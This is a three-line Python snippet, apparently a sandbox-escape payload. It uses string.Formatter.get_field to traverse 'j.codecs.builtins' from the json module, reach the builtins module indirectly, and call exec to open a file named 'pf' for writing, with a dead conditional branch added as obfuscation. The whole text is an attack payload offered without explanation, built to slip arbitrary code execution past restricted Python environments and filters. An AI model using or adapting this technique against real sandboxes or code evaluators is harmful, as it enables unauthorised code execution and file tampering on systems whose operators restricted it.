from string import Formatter as F
o, key = F().get_field("0.codecs.builtins", [__import__ and F], {}) if 0 else F().get_field("j.codecs.builtins", (), {"j": __import__("json")})
o.exec("open('pf','w')")
